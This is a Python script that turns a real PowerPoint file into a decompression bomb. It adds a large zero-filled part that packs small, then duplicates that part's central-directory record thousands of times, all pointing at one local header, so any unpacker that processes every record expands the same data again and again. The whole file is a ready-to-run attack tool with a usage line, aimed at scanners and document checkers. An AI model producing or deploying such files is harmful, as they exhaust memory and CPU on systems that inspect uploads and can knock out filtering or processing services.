#!/usr/bin/env python3
"""Makes a deck that keeps a careless check busy, from a real one: the real deck's parts, one large
part that packs small (zeros), and a directory that names that part many times, every record
pointing at its one local header. A reader that unpacks each record unpacks the large part each time.
    make_busy_deck.py <real deck.pptx> <output.pptx> [times (20000)] [megabytes (50)]"""
import struct
import sys
import zipfile

real, output = sys.argv[1], sys.argv[2]
times = int(sys.argv[3]) if len(sys.argv) > 3 else 20000
megabytes = int(sys.argv[4]) if len(sys.argv) > 4 else 50
large = "ppt/media/large.bin"

with zipfile.ZipFile(real) as source, zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as deck:
    for item in source.infolist():
        deck.writestr(item, source.read(item))
    deck.writestr(large, bytes(megabytes << 20))

data = bytearray(open(output, "rb").read())
end = data.rindex(b"PK\x05\x06")
(count,) = struct.unpack_from("<H", data, end + 10)
size, start = struct.unpack_from("<II", data, end + 12)
at = start
while True:
    name_length, extra_length, comment_length = struct.unpack_from("<HHH", data, at + 28)
    following = at + 46 + name_length + extra_length + comment_length
    if data[at + 46 : at + 46 + name_length] == large.encode():
        record = bytes(data[at:following])
        break
    at = following
data[at:at] = record * (times - 1)
end += len(record) * (times - 1)
struct.pack_into("<HHI", data, end + 8, count + times - 1, count + times - 1, size + len(record) * (times - 1))
open(output, "wb").write(data)
